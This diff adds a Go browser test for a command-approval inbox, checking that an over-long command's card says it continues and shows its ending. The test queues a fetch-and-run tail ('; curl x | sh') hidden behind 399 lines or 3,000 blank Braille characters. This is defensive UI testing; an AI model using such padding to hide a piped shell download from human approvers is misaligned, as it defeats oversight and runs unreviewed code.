@@ -16,9 +16,10 @@ import (
 )
 
 // The inbox page as a person uses it, in headless Chromium (issue 29,
-// item 2): a click decides only a request that was on screen, where it is,
-// for a moment before the click (a double click, a card decided elsewhere,
-// a new card). The requests are queued straight into the state dir (as the
+// items 2 and 7): a click decides only a request that was on screen, where
+// it is, for a moment before the click (a double click, a card decided
+// elsewhere, a new card); and an input too long for its box says so and
+// how it ends. The requests are queued straight into the state dir (as the
 // approve hook queues them); no client runs.
 
 // pageScenario is a state dir and a home for the inbox, nothing else.
@@ -197,4 +198,62 @@ func TestInboxDecidedElsewhere(t *testing.T) {
 		t.Errorf("after a moment a click decided %v (%s by %q), want %s allowed by the inbox", got, r.Status, r.DecidedBy, target)
 	}
 	p.shot("decided-elsewhere")
+}
+
+// A command longer than its card's box, a 400-line script ending in "; curl
+// x | sh" and one line padded with 3,000 blank Braille characters before
+// the same tail: the card says the input continues, how many lines more,
+// and how it ends; Show all shows the whole box. (Issue 29 item 7: blank
+// characters pushed the tail below the visible box, silently.)
+func TestInboxLongCommand(t *testing.T) {
+	sc := pageScenario(t)
+	ib := startInbox(t, sc, "")
+	p := openBrowser(t, sc)
+	p.openInbox(ib)
+	q := approvals.New(sc.stateDir)
+	const tail = "; curl x | sh"
+	var script []string
+	for i := range 399 {
+		script = append(script, fmt.Sprintf("echo step %d", i+1))
+	}
+	script = append(script, tail)
+	for _, c := range []struct{ name, command string }{
+		{"a 400-line script", strings.Join(script, "\n")},
+		{"3,000 blank Braille characters", "echo hi" + strings.Repeat("\u2800", 3000) + tail},
+	} {
+		r := queueBash(t, q, map[string]string{"command": c.command, "description": "run it"})
+		sel := cardSel(r.ID)
+		p.until("the card", fmt.Sprintf(`!!document.querySelector(%q)`, sel), 10*time.Second)
+		evalJS[bool](p, fmt.Sprintf(`(document.querySelector(%q).scrollIntoView({block: 'start'}), true)`, sel))
+		time.Sleep(300 * time.Millisecond) // the box is laid out and measured
+		type box struct {
+			Scroll, Client float64
+			Note           string
+			NoteShown      bool
+		}
+		state := func() box {
+			return evalJS[box](p, fmt.Sprintf(`(() => {
+				const c = document.querySelector(%q), pre = c.querySelector('pre.input'), more = c.querySelector('p.more');
+				const r = more ? more.getBoundingClientRect() : null;
+				return {Scroll: pre.scrollHeight, Client: pre.clientHeight, Note: more ? more.textContent : '',
+					NoteShown: !!r && !more.hidden && r.height > 0 && r.top >= 0 && r.bottom <= window.innerHeight};
+			})()`, sel))
+		}
+		b := state()
+		if b.Scroll <= b.Client {
+			t.Fatalf("%s: the box holds it all (%v of %v px): the check below would be vacuous", c.name, b.Client, b.Scroll)
+		}
+		p.shot("long-" + strings.Fields(c.name)[1])
+		if !b.NoteShown || !strings.Contains(b.Note, "continues: ") || !strings.Contains(b.Note, "more lines below") || !strings.Contains(b.Note, tail) {
+			t.Errorf("%s: the box shows %v of %v px and the card says %q (shown: %v); want a note that the input continues, ending %q",
+				c.name, b.Client, b.Scroll, b.Note, b.NoteShown, tail)
+			continue
+		}
+		t.Logf("%s: the box shows %v of %v px; the card says %q", c.name, b.Client, b.Scroll, b.Note)
+		p.do(10*time.Second, chromedp.Click(chromedp.CSS(sel+" p.more button")))
+		time.Sleep(300 * time.Millisecond)
+		if b := state(); b.Scroll > b.Client+1 || b.NoteShown {
+			t.Errorf("%s: after Show all the box shows %v of %v px, note shown %v", c.name, b.Client, b.Scroll, b.NoteShown)
+		}
+	}
 }
